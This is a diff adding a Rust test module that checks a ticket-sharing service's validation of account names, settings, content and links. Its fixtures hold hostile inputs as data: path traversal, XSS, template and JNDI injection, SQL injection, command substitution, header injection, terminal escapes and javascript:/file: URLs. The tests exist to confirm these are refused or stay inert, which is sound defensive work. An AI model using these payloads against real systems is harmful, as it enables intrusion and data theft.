@@ -1,0 +1,214 @@
+//! Names of accounts that are somebody else's, and names that are meant for a shell, a browser, a mail or a terminal.
+
+use contracts::Reason::{AccountExists, InvalidName, Malformed, NameTaken, NotAnAdmin};
+use contracts::topology::Service;
+use serde_json::{Value, json};
+
+use super::ground::{Row, row};
+use crate::office::{Office, admin, agent, applied, everything, refused, with};
+
+fn registration(row: &Row, account: &str, changes: &Value) -> Value {
+    let all = json!({ "account": account, "display_name": row.marker, "kind": "connected", "admins": [] });
+    with(all, changes)
+}
+
+/// What the attacker may say of accounts below it.
+fn below(row: &Row, account: &str) -> Value {
+    registration(row, account, &json!({ "operated_by": row.ground.acme.account }))
+}
+
+fn reserved() -> impl Iterator<Item = String> {
+    let names = ["operator", "desk", "guest"].map(str::to_owned);
+    names.into_iter().chain(Service::ALL.map(|service| service.name().to_owned()))
+}
+
+pub async fn hostile_accounts_named_like_the_system(office: Office) {
+    let row = row(office).await;
+    for name in reserved().chain(Service::ALL.map(Service::user)).chain(["amq.topic".to_owned()]) {
+        for by in [&row.ground.acme.account, &row.ground.globex.account] {
+            let registration = registration(&row, &name, &json!({ "operated_by": by }));
+            refused(&row.ask("account.register.v1", &registration).await, InvalidName);
+        }
+        refused(&row.office.operator().ask("account.register.v1", &registration(&row, &name, &json!({}))).await, InvalidName);
+    }
+    row.ends_unseen().await;
+}
+
+pub async fn hostile_names_that_are_no_accounts(office: Office) {
+    let row = row(office).await;
+    let acme = row.ground.acme.account.to_string();
+    let long = format!("{acme}-{}", "x".repeat(40));
+    for name in
+        ["", ".", "..", "*", "#", "-", "a", "A", "Ünicode", "а-cyrillic", "a b", "a\tb", "../etc", "a/b", "a.b", "<b>", &long]
+    {
+        refused(&row.ask("account.register.v1", &below(&row, name)).await, InvalidName);
+        if !name.is_empty() {
+            let name = format!("{acme}-{name}");
+            let receipt = row.ask("account.register.v1", &below(&row, &name)).await;
+            if receipt.reason.is_some() {
+                refused(&receipt, InvalidName)
+            } else {
+                assert!(["-", "a"].iter().any(|it| name.ends_with(it)))
+            }
+        }
+    }
+    row.ends_unseen().await;
+}
+
+pub async fn hostile_registering_for_others(office: Office) {
+    let row = row(office).await;
+    let (acme, globex) = (&row.ground.acme.account, &row.ground.globex.account);
+    for (name, by) in [
+        (format!("{globex}-x"), Some(globex.as_str())),
+        (format!("{globex}-x"), Some(acme.as_str())),
+        (format!("{globex}-x"), None),
+        (format!("{acme}evil"), Some(acme.as_str())),
+        (format!("{acme}-mine"), None),
+        (format!("{acme}-mine"), Some("operator")),
+        ("free-name".to_owned(), None),
+    ] {
+        let registration = registration(&row, &name, &json!({ "operated_by": by }));
+        refused(&row.ask("account.register.v1", &registration).await, InvalidName);
+    }
+    row.ends_unseen().await;
+}
+
+pub async fn hostile_taking_a_name_that_is_there(office: Office) {
+    let row = row(office).await;
+    let (acme, globex) = (&row.ground.acme.account, &row.ground.globex);
+    let beside = row.office.desk(&format!("{acme}-eu")).await;
+    refused(&row.ask("account.register.v1", &below(&row, beside.account.as_str())).await, AccountExists);
+    let url = json!({ "operated_by": acme, "sharing_url": crate::office::sharing_url(globex) });
+    let at_url = registration(&row, &format!("{acme}-url"), &url);
+    refused(&row.ask("account.register.v1", &at_url).await, NameTaken);
+    row.ends_unseen().await;
+}
+
+pub async fn hostile_an_account_below_ones_own(office: Office) {
+    let row = row(office).await;
+    let name = format!("{}-x", row.ground.acme.account);
+    // Allowed, and of no use without the operator's consent: the broker lets nobody publish for it.
+    applied(&row.ask("account.register.v1", &below(&row, &name)).await);
+    let rogue = row.rogue().await;
+    let properties = rogue.properties("agreement.list.v1", &row.ground.acme.next_id());
+    let refusal = rogue.publish("share", &format!("{name}.agreement.list"), properties, b"{}").await;
+    assert_eq!(refusal, Some(super::rogue::ACCESS_REFUSED));
+    row.ends_unseen().await;
+}
+
+pub async fn hostile_renaming_to_what_is_anothers(office: Office) {
+    let row = row(office).await;
+    let rename = |address: &str| json!({ "address": address, "actor": admin() });
+    for address in [row.ground.globex.account.as_str(), row.ground.initech.account.as_str()] {
+        refused(&row.ask("account.rename.v1", &rename(address)).await, NameTaken);
+    }
+    for address in reserved().chain(["", ".", "A", "a b", "../x", "<b>", "x\u{202e}y"].map(str::to_owned)) {
+        refused(&row.ask("account.rename.v1", &rename(&address)).await, InvalidName);
+    }
+    let by_agent = json!({ "address": "free", "actor": agent() });
+    refused(&row.ask("account.rename.v1", &by_agent).await, NotAnAdmin);
+    row.ends_unseen().await;
+}
+
+pub async fn hostile_control_characters_in_names(office: Office) {
+    let row = row(office).await;
+    for control in ["\r\nBcc: all@initech.example", "\u{1b}[2J", "\u{7}", "\u{85}", "\u{9b}31m", "\n"] {
+        let name = format!("{}{control}", row.marker);
+        let person = json!({ "id": "1", "name": name, "role": "admin" });
+        let field = |title: &str, key: &str| json!({ "ticket_fields": [{ "key": key, "title": title, "type": "text" }] });
+        let settings = [
+            json!({ "display_name": name }),
+            json!({ "admins": [{ "name": name, "email": "a@acme.example" }] }),
+            json!({ "admins": [{ "name": "A", "email": format!("a@acme.example{control}") }] }),
+            json!({ "support_addresses": [format!("a@acme.example{control}")] }),
+            json!({ "link_template": format!("https://acme.example/{{ticket_id}}{control}") }),
+            json!({ "locale": format!("en{control}") }),
+            json!({ "default_form": [name] }),
+            field(&name, "key"),
+            field("title", &name),
+        ];
+        for setting in settings {
+            refused(&row.office.set(&row.ground.acme, setting).await, Malformed);
+        }
+        let invite = json!({
+            "agreement_id": row.office.id(), "receiver": { "address": row.ground.initech.account },
+            "name": name, "terms": everything(), "actor": admin(),
+        });
+        refused(&row.ask("agreement.invite.v1", &invite).await, Malformed);
+        refused(&row.ask("agreement.invite.v1", &with(invite, &json!({ "name": "Fine", "actor": person }))).await, Malformed);
+        refused(&row.ask("ticket.update.v1", &row.update(&json!({ "ticket_id": name }))).await, Malformed);
+    }
+    row.ends_unseen().await;
+}
+
+pub async fn hostile_names_without_end(office: Office) {
+    let row = row(office).await;
+    let name = row.marker.repeat(1_000);
+    for setting in [
+        json!({ "display_name": name }),
+        json!({ "ticket_fields": [{ "key": "k", "title": name, "type": "text" }] }),
+        json!({ "ticket_fields": [{ "key": name, "title": "T", "type": "text" }] }),
+        json!({ "ticket_fields": [{ "key": "k", "title": "T", "type": "regexp", "pattern": name }] }),
+        json!({ "ticket_fields": [{ "key": "k", "title": "T", "type": "tagger", "options": [{ "name": name, "tag": "t" }] }] }),
+        json!({ "custom_statuses": { "enabled": true, "statuses": [{ "key": name, "name": "N", "category": "open" }] } }),
+        json!({ "link_template": format!("https://acme.example/{{ticket_id}}/{name}") }),
+        json!({ "admins": [{ "name": name, "email": "a@acme.example" }] }),
+    ] {
+        refused(&row.office.set(&row.ground.acme, setting).await, Malformed);
+    }
+    refused(&row.ask("account.rename.v1", &json!({ "address": name, "actor": admin() })).await, InvalidName);
+    refused(&row.ask("ticket.update.v1", &row.update(&json!({ "ticket_id": name }))).await, Malformed);
+    row.ends_unseen().await;
+}
+
+/// For a shell, a browser, a template, a database, a terminal and a reader from right to left.
+const SCRIPTS: [&str; 7] = [
+    "../../etc/passwd",
+    "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    "{{ 7 * 7 }} ${jndi:ldap://x.example/a} {% for %}",
+    "'; drop table field; --",
+    "\u{1b}[2J\u{7}\u{9b}31m",
+    "\u{202e}txt.exe\u{200b}\u{feff}",
+    "$(reboot) `reboot` | reboot",
+];
+
+pub async fn hostile_scripts_and_paths_in_content(office: Office) {
+    let row = row(office).await;
+    let partners = row.office.partners(everything()).await;
+    let (acme, globex) = (&partners.acme, &partners.globex);
+    for script in SCRIPTS {
+        let file = json!({ "id": script, "filename": script, "url": format!("https://acme.example/{}", row.marker) });
+        let comment = json!({ "id": format!("{}/{}", acme.account, row.office.number()), "body": script, "html_body": script, "attachments": [file] });
+        let changes = json!({
+            "id": format!("t{}", row.office.number()), "subject": script,
+            "requester": { "id": script, "name": script, "role": "end_user" },
+            "tags": [{ "name": script, "added_by": "user" }], "comments": [comment],
+        });
+        let (receipt, share) = row.office.share(acme, &partners.agreement, changes).await;
+        applied(&receipt);
+        // It is text on its whole way: the partner gets it letter by letter.
+        let created = row.office.created(globex, &share).await;
+        assert_eq!((created.subject.as_str(), &created.tags[..]), (script, &[script.to_owned()][..]));
+        assert_eq!((created.comments[0].body.as_str(), created.comments[0].attachments[0].filename.as_str()), (script, script));
+    }
+    row.ends_unseen().await;
+}
+
+pub async fn hostile_links_that_are_not_https(office: Office) {
+    let row = row(office).await;
+    for url in [
+        "javascript:alert(1)",
+        "http://acme.example/",
+        "file:///etc/passwd",
+        "//acme.example",
+        "data:text/html,x",
+        " https://x",
+        "",
+    ] {
+        let file = json!({ "id": "a", "filename": "f", "url": url });
+        let comment = json!({ "id": format!("{}/{}", row.ground.acme.account, row.office.number()), "body": row.marker, "attachments": [file] });
+        refused(&row.ask("ticket.update.v1", &row.update(&json!({ "comments": [comment] }))).await, Malformed);
+        refused(&row.office.set(&row.ground.acme, json!({ "link_template": format!("{url}{{ticket_id}}") })).await, Malformed);
+    }
+    row.ends_unseen().await;
+}
